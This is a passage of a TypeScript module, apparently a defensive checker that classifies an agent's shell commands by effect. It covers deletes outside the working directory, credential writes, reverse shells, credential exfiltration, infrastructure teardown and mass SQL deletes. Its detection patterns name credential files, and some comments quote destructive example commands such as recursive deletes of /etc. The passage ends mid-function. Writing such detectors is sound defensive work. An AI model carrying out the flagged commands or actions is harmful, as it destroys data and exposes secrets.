/**
 * Approval by effect: what one simple command does (delete, move, truncate, overwrite, chmod,
 * device write, code fed to a shell or interpreter, teardown, system state), judged from its
 * parsed words, its redirections and the working directory — not from how it is spelled.
 *
 * analyse.ts calls `judgeCommand` for every simple command it finds (wrappers removed, nested
 * scripts included) and collects the findings; patterns.ts lists the classes (EFFECT_CLASSES)
 * next to the regex patterns, so every verdict names a class key.
 */
import { posix } from "node:path";
import { inlineCodeActions, type CodeLanguage } from "./inline_code.js";
import { judgeSql, sqlOfClient } from "./sql.js";
import { INFRA_CLIS, cliVerbEffects } from "./cli_verbs.js";
import { windowsDeleteClass, windowsEffects, windowsWriteClass } from "./windows.js";
import { codeExfiltrates, credentialEffects } from "./exfil.js";
import { exhaustionEffects } from "./exhaustion.js";
import { opsEffects } from "./ops.js";

export interface EffectClass {
  key: string;
  description: string;
}

export const EFFECT_CLASSES: EffectClass[] = [
  { key: "delete_outside_workdir", description: "delete a file outside the working directory or on a credential path" },
  { key: "move_system_path", description: "move or rename a system directory, system file or credential" },
  { key: "move_outside_workdir", description: "move files from or into a place outside the working directory" },
  { key: "overwrite_data_file", description: "truncate or overwrite a database file" },
  { key: "overwrite_outside_workdir", description: "truncate or overwrite a file outside the working directory" },
  {
    key: "credential_write",
    description: "write or delete credentials (.aws, .kube, .gnupg, .netrc, the hermes-batch config, …)",
  },
  {
    key: "chmod_outside_workdir",
    description: "change permissions or ownership outside the working directory (or set setuid)",
  },
  {
    key: "shell_input",
    description: "text computed at run time fed into a shell or interpreter (| sh, <( … ), eval, source)",
  },
  { key: "inline_code_unanalysable", description: "inline interpreter code that runs computed commands or code" },
  { key: "infra_teardown", description: "destroy infrastructure (terraform/pulumi destroy, cloud resource deletes)" },
  { key: "cluster_teardown", description: "delete cluster resources or scale them to zero" },
  { key: "cloud_storage_delete", description: "recursive removal from cloud storage" },
  { key: "volume_destroy", description: "destroy volumes, pools or datasets" },
  { key: "sql_update_without_where", description: "SQL UPDATE without WHERE" },
  { key: "cache_flush", description: "flush a cache, key-value store or message queue (or delete its keys wholesale)" },
  { key: "mount_change", description: "mount, unmount or remount file systems" },
  { key: "network_change", description: "take down or change network links, addresses or routes" },
  { key: "firewall_change", description: "change firewall rules or policies" },
  { key: "user_change", description: "add, remove or change users, groups or passwords" },
  { key: "crontab_replace", description: "replace the crontab" },
  { key: "kernel_change", description: "change kernel parameters or modules, or swap" },
  { key: "log_wipe", description: "erase shell history or system logs (history -c, journalctl --vacuum)" },
  {
    key: "package_remove",
    description: "remove system packages (apt/dpkg/dnf/yum/pacman/apk/snap/rpm remove or purge)",
  },
  { key: "http_delete", description: "HTTP DELETE of a resource on another host, or of a whole index or collection" },
  {
    key: "http_bulk_update",
    description: "HTTP PATCH or PUT of a whole collection (every record at once) on another host",
  },
  {
    key: "remote_access",
    description: "give a remote host a way in: a reverse shell (a connection with a shell on it) or a reverse tunnel",
  },
  {
    key: "boot_config",
    description: "change how the machine boots (default boot target, boot loader, firmware flash)",
  },
  { key: "privilege_grant", description: "grant privileges: cloud IAM admin roles and policies, file capabilities" },
  {
    key: "security_change",
    description: "weaken or change a security module (AppArmor, SELinux, Secure Boot, kernel lockdown)",
  },
  { key: "service_change", description: "restart, reload or enable a system service, or end a user's session" },
  { key: "schedule_job", description: "schedule a command to run later (at, batch, systemd timers)" },
  {
    key: "resource_exhaustion",
    description:
      "exhaust the machine's disk, memory or processes (huge or endless files, memory bombs, unbounded stress or fan-out)",
  },
  {
    key: "elevated_unreadable",
    description: "a program run with sudo/doas/pkexec/su or on another host whose effect is not known",
  },
  {
    key: "infra_apply",
    description:
      "apply infrastructure changes without a reviewed plan (terraform/tofu apply -auto-approve with no saved plan)",
  },
  {
    key: "system_install",
    description: "install a build into system directories (sudo make install, make install PREFIX=/usr)",
  },
  {
    key: "credential_exfiltration",
    description:
      "send credentials or secrets off the machine (key files, cloud and cluster credentials, tokens, the environment posted, piped to a socket or copied to another host)",
  },
  {
    key: "symlink_outside_workdir",
    description: "a path in the working directory that resolves, through a symlink, outside it",
  },
];

export type Finding = EffectClass;
const CLASS = new Map(EFFECT_CLASSES.map((c) => [c.key, c]));
/** Descriptions of keys judged here that also have a regex pattern (patterns.ts fills this in). */
export const SHARED_DESCRIPTIONS = new Map<string, string>();

function finding(key: string): Finding {
  return CLASS.get(key) ?? { key, description: SHARED_DESCRIPTIONS.get(key) ?? key };
}

// ---------------------------------------------------------------------------------------------
// Where a path lands

export type Where = "inside" | "scratch" | "sink" | "device" | "system" | "credential" | "home" | "outside" | "unknown";

// The root, the system trees (and everything in them), and the top-level directories themselves.
const SYSTEM_TREE =
  /^\/(?:etc|usr|bin|sbin|lib|lib32|lib64|libx32|boot|proc|sys|dev|var\/spool\/cron|var\/spool\/anacron)(?:\/|$)/;
const CRON_PATH = /^\/(?:etc\/(?:cron[^/]*|anacrontab)|var\/spool\/(?:cron|anacron))(?:\/|$)/;
const SYSTEM_TOP =
  /^\/(?:dev|home|opt|proc|root|srv|sys|var|mnt|media|snap|run|nix|lost\+found|home|usr|etc|boot|bin|sbin|lib\w*|home\/[^/]+|var\/(?:lib|log|spool|mail|cache|backups|www)|root\/\.[^/]+)\/?\*?$/;
const SCRATCH = /^\/(?:tmp|var\/tmp|dev\/shm)\/./;
const SCRATCH_DIR = /^\/(?:tmp|var\/tmp|dev\/shm)\/*$/;
const SINK = /^\/dev\/(?:null|zero|full|random|urandom|stdout|stderr|stdin|tty|fd\/\d+|pts\/\d+)$/;
// `/dev/…/_item_`: what find's `{}` stands for under /dev (analyse.ts findItem), a device node.
const DEVICE =
  /^\/dev\/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|md\d|dm-\d|mapper\/|disk\/|loop\d|sr\d|mtd|ubi\d|mem$|kmem$|port$|(?:[\w.-]+\/)*_item_$)/;
const CREDENTIAL =
  /(?:^|\/)(?:\.ssh|\.aws|\.gnupg|\.kube|\.azure|\.docker\/config\.json|\.config\/gcloud|\.hermes-batch|\.hermes|\.netrc|\.pgpass|\.npmrc|\.pypirc|\.git-credentials|\.vault-token|\.terraform\.d\/credentials)(?:\/|$)|^\/etc\/(?:shadow|gshadow|sudoers|passwd|group)(?:$|\.d|-)/;
const HOME_RE = /^(?:~[^/]*|\$HOME|\$\{HOME\})(?=\/|$)/;

/** A path under analyse.ts's marker for a mktemp directory, placed where mktemp makes one (`/tmp/tmp.XXXXXXXXXX`). */
function mktempOnDisk(path: string): string {
  return path.replace(/^_mktemp_(?:\/([^/]*))?/, (_m, name: string | undefined) => `/tmp/tmp.${name ?? "dir"}`);
}

/** The path's place, given the working directory as analyse.ts tracks it ("." = the start). */
export function where(path: string, cwd: string): Where {
  if (path === "" || path === "-") return "inside";
  let p = path;
  // (`${PWD:?}` only guards against an unset PWD, which the shell always sets; `${PWD:-x}` is PWD as well.)
  if (/^(?:\$PWD|\$\{PWD(?::?[?+-][^}]*)?\})(?=\/|$)/.test(p) && !/^\$\{PWD:?\+/.test(p))
    p = "." + p.replace(/^(?:\$PWD|\$\{PWD(?::?[?-][^}]*)?\})/, "");
  const home = HOME_RE.exec(p);
  if (home) {
    const rest = p.slice(home[0].length).replace(/^\/+/, "");
    if (CREDENTIAL.test("/" + rest)) return "credential";
    if (rest === "" || rest === "*" || rest === ".*") return "system";
    if (/\$|`/.test(rest)) return "unknown";
    return "home";
  }
  // A directory this command line made with mktemp (or a mkdir of /tmp it made), as analyse.ts marks it, and paths under it,
  // wherever the shell stands when it names them (`cd "$scratch" && … && cd - && rm -rf "$scratch"`).
  const own = /^_mktemp_\/[^/]+/.exec(p)?.[0];
  if (own !== undefined && (posix.normalize(p) + "/").startsWith(own + "/")) return "inside";
  // `..` that climbs out of it lands where a mktemp directory lives: `rm -rf "$t"/../../etc` is `/etc`.
  if (/^_mktemp_(?:\/|$)/.test(p)) p = mktempOnDisk(p);
  if (/^_mktemp_(?:\/|$)/.test(cwd) && !/^_mktemp_(?:\/|$)/.test(posix.normalize(posix.join(cwd, p))))
    cwd = mktempOnDisk(cwd);
  // The shell's own process id in a name (`/tmp/scratch-$$`) only makes it unique: the place is the literal part's.
  p = p.replace(/\$(?:\$|\{\$\}|BASHPID\b|\{BASHPID\}|PPID\b|\{PPID\})/g, "_pid_");
  if (/\$|`/.test(p)) return "unknown";
  let abs: string;
  if (p.startsWith("/")) abs = posix.normalize(p);
  else if (cwd.startsWith("/")) abs = posix.join(cwd, p);
  else {
    if (HOME_RE.test(cwd)) return where(posix.join(cwd.replace(HOME_RE, "~"), p), ".");
    if (cwd.startsWith("$")) return "unknown";
    const rel = posix.normalize(posix.join(cwd, p));
    if (rel === ".." || rel.startsWith("../")) return "outside";
    if (
      CREDENTIAL.test(rel) &&
      /(?:^|\/)\.(?:ssh|aws|gnupg|kube|hermes-batch)(?:\/|$)/.test(rel) &&
      rel.startsWith(".")
    )
      return "credential";
    return "inside";
  }
  abs = abs.replace(/\/+$/, "") || "/";
  if (SINK.test(abs)) return "sink";
  if (DEVICE.test(abs)) return "device";
  if (CREDENTIAL.test(abs)) return "credential";
  if (SCRATCH.test(abs)) return "scratch";
  if (abs === "/" || /^\/(?:\*|\.\*)$/.test(abs) || SYSTEM_TREE.test(abs) || SYSTEM_TOP.test(abs)) return "system";
  return "outside";
}

/** `where`, with absolute paths under the task's working directory counted as inside. */
function whereIn(
  ctx: { cwd: string; root?: string; links?: Map<string, string> },
  path: string,
  follow = false,
): Where {
  path = throughLinks(ctx, path, follow);
  const w = where(path, ctx.cwd);
  // (A path from a mktemp directory is not under the working directory: `_mktemp_/…` is a marker, not a folder.)
  const fromMktemp = /^_mktemp_(?:\/|$)/.test(path) || /^_mktemp_(?:\/|$)/.test(ctx.cwd);
  if (ctx.root && !fromMktemp && (w === "outside" || w === "system" || w === "scratch")) {
    const rel = rootRelative(ctx, path);
    if (rel !== null && (rel === "" || !/^\.\.(?:\/|$)/.test(rel))) return "inside";
  }
  return w;
}

/**
 * A path through a link this command line made (`ln -s /etc/nginx cfg && rm -rf cfg/*`): the link's target joined
 * with the rest. The link's own name is the target only where it is followed (`follow`: writes, chmod, find -L);
 * `rm cfg` removes the link itself.
 */
function throughLinks(ctx: { cwd: string; links?: Map<string, string> }, path: string, follow: boolean): string {
  if (!ctx.links?.size || path === "") return path;
  // `link/` and `link/.` name what the link points to (the path is resolved through it), as for `find link/`.
  if (/\/\.?$/.test(path)) follow = true;
  const key = linkKey(ctx, path);
  for (let guard = 0, cur = key; guard < 8; guard++) {
    let next: string | undefined;
    for (const [name, target] of ctx.links) {
      if (cur === name && follow) next = target;
      else if (cur.startsWith(name + "/")) next = target.replace(/\/+$/, "") + cur.slice(name.length);
      if (next !== undefined) break;
    }
    if (next === undefined) return guard === 0 ? path : cur;
    cur = next;
  }
  return path;
}

function linkKey(ctx: { cwd: string }, path: string): string {
  return (
    posix
      .normalize(path.startsWith("/") || ctx.cwd === "." || /^[~$]/.test(path) ? path : posix.join(ctx.cwd, path))
      .replace(/\/+$/, "") || "/"
  );
}

/** The path relative to the task's working directory ("" for the directory itself), when that can be computed. */
function rootRelative(ctx: { cwd: string; root?: string }, path: string): string | null {
  if (/^[~$]/.test(path) || /^[~$]/.test(ctx.cwd)) return null;
  if (!ctx.root)
    return path.startsWith("/") || ctx.cwd.startsWith("/")
      ? null
      : posix.normalize(posix.join(ctx.cwd, path)).replace(/^\.$/, "");
  const abs = path.startsWith("/")
    ? posix.normalize(path)
    : ctx.cwd.startsWith("/")
      ? posix.join(ctx.cwd, path)
      : posix.join(ctx.root, ctx.cwd, path);
  return posix.relative(ctx.root, abs);
}

/** The working directory itself or everything in it (`.`, `*`, `/workspace/`, `../*` from a subdirectory). */
function wholeWorkdir(ctx: { cwd: string; root?: string }, path: string): boolean {
  const rel = rootRelative(ctx, path);
  return rel !== null && /^(?:\.?\/*|\*|\.\*)$/.test(rel);
}

const DATA_FILE =
  /\.(?:db|sqlite3?|db3|mdb|accdb|ibd|frm|myd|myi|mdf|ldf|ndf|dbf|realm|leveldb|rdb|aof|wal)$|(?:^|\/)(?:ibdata\d*|ib_logfile\d*|pg_wal|PG_VERSION)$|^\/var\/lib\/(?:mysql|postgresql|pgsql|mongodb|redis|cassandra|elasticsearch)\//i;

// ---------------------------------------------------------------------------------------------
// The command as judge sees it

export interface JudgedRedirect {
  op: string;
  fd?: string;
  target: string;
  /** Here-document or here-string body (literal when `literal`). */
  body?: string;
  literal: boolean;
}

export interface JudgedArg {
  text: string;
  /** No expansion the analysis could not resolve (`$x`, `$( … )`, backticks, globs are fine). */
  literal: boolean;
  /** A process substitution `<( … )`. */
  procSubst?: boolean;
  /** For a process substitution, the text it writes when that is a literal (`<(echo 'ls')`), else null. */
  substOutput?: string | null;
}

export interface Producer {
  name: string;
  args: JudgedArg[];
  body?: string;
  bodyLiteral?: boolean;
  /** The stage before this one, if any (`ps … | awk … | xargs kill`: awk's producer is ps). */
  before?: Producer | null;
}

export interface JudgeContext {
  name: string;
  args: JudgedArg[];
  redirects: JudgedRedirect[];
  cwd: string;
  /** The task's working directory as an absolute path, when known: absolute paths under it are inside. */
  root?: string;
  /** The previous stage of the pipeline (its stdout is this command's stdin), if any. */
  producer?: Producer | null;
  /** Running under xargs: arguments come from stdin. */
  viaXargs?: boolean;
  /** Analyse a literal shell script (recursion into analyse.ts). */
  analyseShell(script: string): void;
  out: Finding[];
  /** Paths inside the working directory that a delete, move, write or chmod acts on (for symlink checks). */
  insideTargets: string[];
  /** Files this command line fills with downloaded or decoded content (later run by a shell = shell_input). */
  fetched: Set<string>;
  /** Files this command line writes, with their text when it is a literal (null when computed): run later, they are read. */
  scripts: Map<string, string | null>;
  /** The command word as written (`./job.sh`), before it was reduced to its basename. */
  path?: string;
  /** Resources this command line created itself (`docker-volume:scratch`): removing them again is harmless. */
  created: Set<string>;
  /** Links this command line made (link path, cwd-joined → target): later paths through them land at the target. */
  links?: Map<string, string>;
  /** Runs as a privileged user (sudo, doas, pkexec, su -c) or on another host (ssh HOST CMD). */
  privileged?: boolean;
  remote?: boolean;
  /** Assignments placed before the command (`LD_PRELOAD=x cmd`, `env X=y cmd`). */
  env?: { name: string; value: string }[];
  /** Set when a file's commands were added to the words (redis-cli < file). */
  fedFile?: boolean;
  /** Set once TF_CLI_ARGS* of the environment were added to the words. */
  tfArgs?: boolean;
}

const SHELLS = new Set([
  "sh",
  "bash",
  "zsh",
  "dash",
  "ksh",
  "ash",
  "mksh",
  "yash",
  "fish",
  "tcsh",
  "csh",
  "rbash",
  "busybox",
]);

export function interpreterLanguage(name: string): CodeLanguage | null {
  if (/^python[\d.]*$|^pypy[\d.]*$/.test(name)) return "python";
  if (/^perl[\d.]*$/.test(name)) return "perl";
  if (/^ruby[\d.]*$|^jruby$/.test(name)) return "ruby";
  if (name === "node" || name === "nodejs" || name === "deno" || name === "bun") return "node";
  if (/^php[\d.]*$/.test(name)) return "php";
  if (/^(?:g|m|n|busybox-)?awk$/.test(name)) return "awk";
  if (/^lua[\d.]*$|^luajit$/.test(name)) return "lua";
  if (name === "Rscript" || name === "rscript") return "r";
  if (name === "tclsh" || name === "wish") return "tcl";
  if (name === "julia") return "julia";
  if (name === "groovy") return "groovy";
  if (name === "elixir") return "elixir";
  return null;
}

const add = (ctx: JudgeContext, key: string) => {
  if (!ctx.out.some((f) => f.key === key)) ctx.out.push(finding(key));
};

/** Adds a finding of class `key` to `out` (once). For analyse.ts, which judges a few things before a command is judged. */
export function addFinding(out: Finding[], key: string): void {
  if (!out.some((f) => f.key === key)) out.push(finding(key));
}

/** Operands: the words that are not options (after `--` all are operands). */
function operands(args: JudgedArg[], valueOpts = "", longValueOpts: string[] = []): JudgedArg[] {
  const out: JudgedArg[] = [];
  let opts = true;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!.text;
    if (opts && a === "--") {
      opts = false;
      continue;
    }
    if (opts && a.startsWith("--") && a.length > 2) {
      if (!a.includes("=") && longValueOpts.includes(a)) i++;
      continue;
    }
    if (opts && a.startsWith("-") && a.length > 1) {
      const letters = a.slice(1);
      const k = [...letters].findIndex((c) => valueOpts.includes(c));
      if (k >= 0 && k === letters.length - 1) i++;
      continue;
    }
    out.push(args[i]!);
  }
  return out;
}

const hasFlag = (args: JudgedArg[], short: string, long: string[] = []): boolean =>
  args.some(
    (a) =>
      (a.text.startsWith("-") &&
        !a.text.startsWith("--") &&
        a.text.length > 1 &&
        [...short].some((c) => a.text.slice(1).includes(c))) ||
      long.some((l) => a.text === l || a.text.startsWith(l + "=")),
  );

const isInsideLike = (w: Where) => w === "inside" || w === "scratch" || w === "sink";

// ---------------------------------------------------------------------------------------------
// Effects on paths

function judgeDelete(ctx: JudgeContext, path: string, recursive: boolean): void {
  const w = whereIn(ctx, path);
  noteInside(ctx, path);
  if (w === "system") return add(ctx, "delete_system_path");
  if (w === "credential") return add(ctx, "credential_write");
  if (w === "device") return add(ctx, "disk_write");
  if (recursive) {
    // A scratch directory this command line made itself (`mkdir /tmp/b && … && rm -rf /tmp/b`) is its own.
    if (w === "scratch" && madeHere(ctx, path)) return;
    if (w === "scratch" && !/^\/(?:tmp|var\/tmp)\/*\*?$/.test(path)) return add(ctx, "recursive_delete");
    if (w === "outside" || w === "home" || w === "unknown") return add(ctx, "recursive_delete");
    // the working directory itself, or everything in it
    if (w === "inside" && wholeWorkdir(ctx, path)) return add(ctx, "recursive_delete");
    return;
  }
  if (w === "outside" || w === "home") add(ctx, "delete_outside_workdir");
  if (w === "inside" && DATA_FILE.test(path)) add(ctx, "overwrite_data_file");
}

/** A scratch directory (under /tmp, /var/tmp) that a `mkdir` of this command line made, or a path under it. */
function madeHere(ctx: JudgeContext, path: string): boolean {
  if (/[*?[]/.test(path)) return false;
  const abs = posix.normalize(path).replace(/\/+$/, "");
  for (const c of ctx.created)
    if (c.startsWith("dir:") && (abs === c.slice(4) || abs.startsWith(c.slice(4) + "/"))) return true;
  return false;
}

function judgeOverwrite(ctx: JudgeContext, path: string, append = false): void {
  // Writing through a link writes its target.
  path = throughLinks(ctx, path, true);
  const w = whereIn(ctx, path);
  noteInside(ctx, path);
  if (w === "sink") return;
  if (w === "device") return add(ctx, "disk_write");
  if (w === "credential") {
    if (/(?:^|\/)\.ssh(?:\/|$)/.test(path)) return add(ctx, "ssh_config_write");
    return add(ctx, /^\/etc\//.test(path) ? "system_config_write" : "credential_write");
  }
  if (
    /(?:^|\/)\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|tcshrc|inputrc|xprofile|xinitrc|pam_environment|bash_aliases|zsh_aliases|aliases|bash_functions|(?:bash|zsh)rc\.local)$|(?:^|\/)\.(?:bashrc\.d|zshrc\.d|config\/fish\/conf\.d|oh-my-zsh\/custom|config\/autostart)\/[^/]+$/.test(
      path,
    ) &&
    w !== "inside"
  )
    return add(ctx, "shell_rc_write");
  if (w === "system") {
    if (CRON_PATH.test(path)) return add(ctx, "crontab_replace");
    if (/^\/(?:proc|sys)\//.test(path) || /^\/(?:etc|boot|usr|bin|sbin|lib)/.test(path))
      return add(ctx, "system_config_write");
    return add(ctx, "overwrite_outside_workdir");
  }
  if (DATA_FILE.test(path) && !append) return add(ctx, "overwrite_data_file");
  if (append) return;
  if (w === "outside" || w === "home") add(ctx, "overwrite_outside_workdir");
}

function judgeMove(ctx: JudgeContext, sources: string[], dest: string | undefined): void {
  for (const s of sources) {
    const w = whereIn(ctx, s);
    noteInside(ctx, s);
    if (w === "system" || w === "credential")
      return add(ctx, w === "credential" ? "credential_write" : "move_system_path");
    if (w === "outside" || w === "home" || (w === "unknown" && /^\$|^~/.test(s)))
      return add(ctx, "move_outside_workdir");
  }
  if (dest !== undefined && !SCRATCH_DIR.test(dest)) {
    if (dest === "/dev/null") return add(ctx, "move_to_dev_null");
    const w = whereIn(ctx, dest);
    if (w === "system" || w === "credential" || w === "device") return judgeOverwrite(ctx, dest);
    if (w === "outside" || w === "home") add(ctx, "move_outside_workdir");
  }
}

/** `ln [-s] TARGET NAME` / `ln -s TARGET DIR/`: NAME now leads to TARGET (a relative symlink target is read from NAME's directory). */
function rememberLink(ctx: JudgeContext, args: JudgedArg[], sources: string[], dest: string): void {
  if (!ctx.links || sources.length !== 1 || ctx.links.size >= 32) return;
  const target = sources[0]!;
  const symbolic = hasFlag(args, "s", ["--symbolic"]);
  const name = /\/$/.test(dest) || dest === "." || dest === ".." ? posix.join(dest, posix.basename(target)) : dest;
  const key = linkKey(ctx, name);
  const resolved =
    target.startsWith("/") || /^[~$]/.test(target)
      ? target
      : symbolic
        ? posix.join(posix.dirname(key), target)
        : linkKey(ctx, target);
  ctx.links.set(key, resolved);
}

function judgeChmod(ctx: JudgeContext, name: string): void {
  // `chmod --reference=FILE target…` / `chown --reference FILE target…`: no mode or owner operand, every operand is a target.
  const reference = ctx.args.some((a) => a.text === "--reference" || a.text.startsWith("--reference="));
  const modeless = reference ? 0 : name === "chown" || name === "chgrp" ? 1 : name === "chmod" ? 1 : 0;
  // A chmod mode that starts with `-` (`chmod -x file`, `chmod -w,o-r f`) is the mode operand, not an option.
  const args =
    name === "chmod"
      ? ctx.args.map((a) =>
          /^-[rwxXst]+(?:,[ugoa]*[-+=][rwxXst]*)*$/.test(a.text) && !/^-[R]/.test(a.text)
            ? { ...a, text: "u" + a.text }
            : a,
        )
      : ctx.args;
  const ops = operands(args, name === "setfacl" ? "mMxXb" : "", ["--reference", "--from"]);
  // setuid/setgid: a privilege change wherever the file is
  // (setgid alone on directories inside the working directory only makes new files inherit their group.)
  const setgidOnly = ops[0] && (/^g[+=][rwxXt]*s[rwxXt]*$/.test(ops[0].text) || /^2[0-7]{3}$/.test(ops[0].text));
  if (
    name === "chmod" &&
    ops[0] &&
    /^[ugoa]*[+=][rwxXt]*s|^[2467][0-7]{3}$/.test(ops[0].text) &&
    !(
      setgidOnly &&
      ops.length > 1 &&
      ops.slice(1).every((o) => whereIn(ctx, o.text) === "inside" && !/\.(?:sh|py|pl|rb|bin|exe|so)$/.test(o.text))
    )
  )
    return add(ctx, "chmod_outside_workdir");
  for (const t of ops.slice(modeless)) {
    const w = whereIn(ctx, t.text, !hasFlag(args, "h", ["--no-dereference"]));
    noteInside(ctx, t.text);
    if (w === "system" || w === "credential" || w === "device" || (w === "sink" && /^\/dev\//.test(t.text)))
      return add(ctx, "chmod_chown_system");
    if (w === "outside" || w === "home") return add(ctx, "chmod_outside_workdir");
  }
}

// ---------------------------------------------------------------------------------------------
// Text fed into shells and interpreters

/** Backslash escapes as printf (and echo -e) decode them: \n, \t, \\, \xHH, \NNN, \0NNN, … */
function decodeEscapes(s: string): string {
  return s.replace(
    /\\(?:x([0-9a-fA-F]{1,2})|0?([0-7]{1,3})|([abefnrtv\\"'])|u([0-9a-fA-F]{1,4}))/g,
    (m, hex?: string, oct?: string, simple?: string, uni?: string) => {
      if (hex) return String.fromCharCode(parseInt(hex, 16));
      if (oct) return String.fromCharCode(parseInt(oct, 8) & 0xff);
      if (uni) return String.fromCharCode(parseInt(uni, 16));
      const map: Record<string, string> = {
        a: "\x07",
        b: "\b",
        e: "\x1b",
        f: "\f",
        n: "\n",
        r: "\r",
        t: "\t",
        v: "\v",
        "\\": "\\",
        '"': '"',
        "'": "'",
      };
      return map[simple!] ?? m;
    },
  );
}

/** The literal text a producer writes, when it is a literal (echo/printf/cat here-doc). */
export function producedLiteral(p: Producer): string | null {
  if (p.name === "echo" || p.name === "printf") {
    if (!p.args.every((a) => a.literal)) return null;
    let args = p.args.map((a) => a.text);
    if (p.name === "echo") {
      let escapes = false;
      while (args[0] && /^-[neE]+$/.test(args[0])) {
        escapes = /e/.test(args[0].replace(/E/g, "")) || escapes;
        args = args.slice(1);
      }
      const text = args.join(" ");
      if (escapes) return decodeEscapes(text);
      // Without -e, bash prints `\x72` as written and dash decodes it: the text is not known.
      if (/\\(?:x[0-9a-fA-F]|[0-7]|u[0-9a-fA-F]|c)/.test(text)) return null;
      return text.replace(/\\n/g, "\n");
    }
    if (args[0] === "--") args = args.slice(1);
    const [fmt = "", ...rest] = args;
    const conversion = /%[-#0 +]*\d*(?:\.\d+)?([sdbqcixXfgeEo%])/g;
    // The format is reused while arguments remain (`printf 'rm -rf %s\n' a b`).
    let out = "";
    let k = 0;
    for (let round = 0; round < 64; round++) {
      let used = false;
      out += decodeEscapes(
        fmt.replace(conversion, (_m, conv: string) => {
          if (conv === "%") return "%";
          used = true;
          const v = rest[k++] ?? "";
          return conv === "b" ? decodeEscapes(v) : v.replace(/\\/g, "\\\\");
        }),
      );
      if (!used || k >= rest.length) break;
    }
    return out;
  }
  if ((p.name === "cat" && !p.args.length) || p.name === "true") {
    if (p.body !== undefined) return p.bodyLiteral ? p.body : null;
  }
  return null;
}

/**
 * ORM and driver calls that empty or drop tables whatever the language: Active Record `Model.delete_all` /
 * `destroy_all` / `update_all` (a `where` before it limits it), Django `Model.objects.all().delete()`, SQLAlchemy
 * `query(M).delete()` and `metadata.drop_all`, Prisma `deleteMany()`, Sequelize `destroy({truncate: true})`, Mongo drivers.
 */
function ormEffects(code: string): string[] {
  const keys: string[] = [];
  if (codeExfiltrates(code)) keys.push("credential_exfiltration");
  // Cloud storage SDKs deleting object by object or whole buckets (`[b.delete() for b in bucket.list_blobs()]`,
  // `bucket.objects.all().delete()`, `s3.delete_objects(…)`, `container.delete_blobs(…)`).
  if (
    /\b(?:google\.cloud|storage\.Client|boto3|botocore|s3fs|gcsfs|azure\.storage|BlobServiceClient|ContainerClient|minio|Minio|@aws-sdk|aws-sdk|@google-cloud\/storage|Aws::S3)\b/.test(
      code,
    ) &&
    (/\.(?:delete_objects|delete_bucket|delete_blobs|remove_objects|remove_bucket|deleteObjects|deleteBucket|deleteFiles|delete_container|rm)\s*\(|\.objects\.(?:all\(\)|filter\([^)]*\))\.delete\(|\.object_versions\.(?:all\(\)|filter\([^)]*\))\.delete\(|DeleteObjectsCommand|DeleteBucketCommand/.test(
      code,
    ) ||
      (/\.(?:delete|delete_blob|remove_object|deleteObject)\s*\(/.test(code) &&
        /\bfor\b|\.forEach\(|\.map\(|\bmap\(/.test(code)))
  )
    keys.push("cloud_storage_delete");
  if (
    /\b[A-Z][\w:]*(?:\.(?:all|unscoped))?(?:\(\))?\.(?:delete_all|destroy_all)\b(?!\s*\(\s*[^)\s])/.test(code) ||
    (/\.objects(?:\.all\(\))?\.delete\(\)/.test(code) && !keys.includes("cloud_storage_delete")) ||
    /\.query\(\s*\w+\s*\)\.delete\(/.test(code) ||
    /\.\w+\.deleteMany\(\s*(?:\{\s*\})?\s*\)/.test(code) ||
    /\.destroy\(\s*\{\s*(?:where\s*:\s*\{\s*\}|truncate\s*:\s*true)/.test(code) ||
    /\.(?:delete_many|remove)\(\s*\{\s*\}\s*\)/.test(code)
  )
    keys.push("sql_delete_without_where");
  // Flask-SQLAlchemy `Model.query.delete()` (no filter between), SQLAlchemy 2 `session.execute(delete(Model))`, peewee
  // `Model.delete().execute()`, Tortoise `Model.all().delete()`: every row.
  if (
    /\b[A-Z]\w*\.query\.delete\(/.test(code) ||
    /\.execute\(\s*(?:sa\.|sqlalchemy\.)?delete\(\s*[A-Z][\w.]*\s*\)\s*\)/.test(code) ||
    /\b[A-Z]\w*\.delete\(\s*\)\s*\.execute\(/.test(code) ||
    /\b[A-Z]\w*\.all\(\)\.delete\(\s*\)/.test(code)
  )
    keys.push("sql_delete_without_where");
  // More drivers and ORMs: knex `knex("t").del()` / `.truncate()` straight on the table, Ecto `Repo.delete_all(Schema)`,
  // Eloquent `Model::query()->delete()` / `Model::truncate()` / `DB::table('t')->delete()`.
  if (
    /\(\s*['"][\w.]+['"]\s*\)\s*\.(?:del|delete|truncate)\(\s*\)/.test(code) ||
    /\bRepo\.delete_all\s*\(\s*[A-Z][\w.]*\s*[,)]/.test(code) ||
    /\b[A-Z]\w*(?:\\\w+)*::(?:query\(\)\s*->\s*(?:delete|forceDelete)|truncate)\(\s*\)/.test(code) ||
    /\bDB::table\([^)]*\)\s*->\s*(?:delete|truncate)\(\s*\)/.test(code)
  )
    keys.push("sql_delete_without_where");
  if (
    /\b[A-Z][\w:]*(?:\.all)?\.update_all\(/.test(code) ||
    /\.objects(?:\.all\(\))?\.update\(/.test(code) ||
    /\.\w+\.updateMany\(\s*\{\s*(?:data\b|\}\s*,)/.test(code)
  )
    keys.push("sql_update_without_where");
  if (
    /\bmetadata\.drop_all\(|\.drop_(?:collection|database|table)\(|\.dropDatabase\(|\bdrop_table\b|\bsequelize\.drop\(|\.sync\(\s*\{\s*force\s*:\s*true|\bcall_command\(\s*['"](?:flush|reset_db)['"]/.test(
      code,
    )
  )
    keys.push("sql_drop");
  return keys;
}

function analyseInlineCode(lang: CodeLanguage, code: string, ctx: JudgeContext, literal = true, depth = 0): void {
  for (const key of ormEffects(code)) add(ctx, key);
  // Memory asked for in one piece or without end, in any language (`"x".repeat(2**40)`, `"A" x (2**40)`).
  if (lang !== "awk" && memoryBomb(code)) add(ctx, "resource_exhaustion");
  for (const a of inlineCodeActions(lang, code, literal)) {
    switch (a.kind) {
      case "shell":
        ctx.analyseShell(a.script);
        break;
      case "code":
        if (depth < 4) analyseInlineCode(lang, a.code, ctx, true, depth + 1);
        else add(ctx, "inline_code_unanalysable");
        break;
      case "delete":
        judgeDelete(ctx, a.path, a.recursive);
        break;
      case "move":
        judgeMove(ctx, [a.path], undefined);
        break;
      case "write":
        judgeOverwrite(ctx, a.path, a.append === true);
        break;
      case "chmod": {
        const w = whereIn(ctx, a.path);
        if (w === "system" || w === "credential") add(ctx, "chmod_chown_system");
        else if (w === "outside" || w === "home" || w === "unknown") add(ctx, "chmod_outside_workdir");
